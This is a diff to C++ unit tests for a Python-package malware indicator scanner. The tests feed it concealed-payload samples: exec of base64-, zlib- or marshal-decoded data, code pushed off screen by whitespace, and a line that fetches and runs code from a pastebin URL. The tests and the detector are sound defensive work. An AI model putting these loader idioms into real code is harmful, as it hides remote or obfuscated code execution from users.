@@ -2,6 +2,9 @@
 
 #include <gtest/gtest.h>
 
+#include <unistd.h>
+
+#include <filesystem>
 #include <thread>
 
 namespace pyward {
@@ -109,6 +112,18 @@ TEST(IndicatorsTest, ShellsMinersPersistenceDroppers) {
   ExpectNoIndicator("msg = downmessage_pb2.DownloadFile()");
 }
 
+TEST(IndicatorsTest, ConcealedPayloads) {
+  ExpectIndicator("__import__('builtins').exec(__import__('builtins').compile(x, 'a', 'exec'))",
+                  "indicator-obfuscation");
+  ExpectIndicator("exec(base64.b64decode('cHJpbnQoMSk='))", "indicator-obfuscation");
+  ExpectIndicator("exec(zlib.decompress(b'x'))", "indicator-obfuscation");
+  ExpectIndicator("exec(marshal.loads(blob))", "indicator-obfuscation");
+  ExpectIndicator("print('ok')" + std::string(500, ' ') + "import os;os.system('x')",
+                  "indicator-obfuscation");
+  ExpectNoIndicator("data = base64.b64decode(s)\nexec_count = 1\n");
+  ExpectNoIndicator("x = 1" + std::string(300, ' ') + "# aligned comment");
+}
+
 TEST(IndicatorsTest, OrdinaryPackageTextIsQuiet) {
   ExpectNoIndicator(
       "from setuptools import setup\n"
@@ -164,9 +179,10 @@ TEST(IndicatorsTest, LongLineEvidenceIsCut) {
   std::string text(200000, ' ');
   text += "exec(get('https://pastebin.com/raw/q'))";
   std::vector<Finding> fs = Find(text);
-  ASSERT_EQ(fs.size(), 1u);
-  EXPECT_LE(fs[0].evidence.size(), 170u);
-  EXPECT_NE(fs[0].evidence.find("pastebin.com/raw"), std::string::npos);
+  ASSERT_EQ(fs.size(), 2u);  // the paste site, and the code pushed off screen
+  for (const Finding& f : fs) EXPECT_LE(f.evidence.size(), 170u);
+  EXPECT_EQ(fs[1].rule, "indicator-paste");
+  EXPECT_NE(fs[1].evidence.find("pastebin.com/raw"), std::string::npos);
 }
 
 TEST(IndicatorsTest, FileFormatAndErrors) {
@@ -198,6 +214,28 @@ TEST(IndicatorsTest, FileFormatAndErrors) {
   EXPECT_NE(err.find("d.txt:1"), std::string::npos) << err;
   EXPECT_FALSE(bad.LoadFromTexts({{"e.txt", header + "lit:x  severe  x\n"}}, &err));
   EXPECT_FALSE(bad.LoadFromTexts({{"f.txt", header + "lit:x  low\n"}}, &err));
+}
+
+TEST(IndicatorsTest, CompiledDatabaseIsCachedAndReused) {
+  std::filesystem::path cache =
+      std::filesystem::temp_directory_path() / ("pyward_ind_cache_" + std::to_string(::getpid()));
+  const std::string dir = std::string(PYWARD_SOURCE_DIR) + "/data/indicators";
+  std::string err;
+  IndicatorSet first, second;
+  ASSERT_TRUE(first.Load(dir, &err, cache.string())) << err;
+  EXPECT_FALSE(first.from_cache());
+  ASSERT_TRUE(second.Load(dir, &err, cache.string())) << err;
+  EXPECT_TRUE(second.from_cache());
+  int hits = 0;
+  second.Match("x = 'https://pastebin.com/raw/a'", [&](const Indicator&, size_t) { ++hits; });
+  EXPECT_EQ(hits, 1);
+  // A damaged cache file is ignored: the patterns are compiled again.
+  for (const auto& e : std::filesystem::directory_iterator(cache))
+    std::filesystem::resize_file(e.path(), 100);
+  IndicatorSet third;
+  ASSERT_TRUE(third.Load(dir, &err, cache.string())) << err;
+  EXPECT_FALSE(third.from_cache());
+  std::filesystem::remove_all(cache);
 }
 
 TEST(IndicatorsTest, SharedByThreads) {
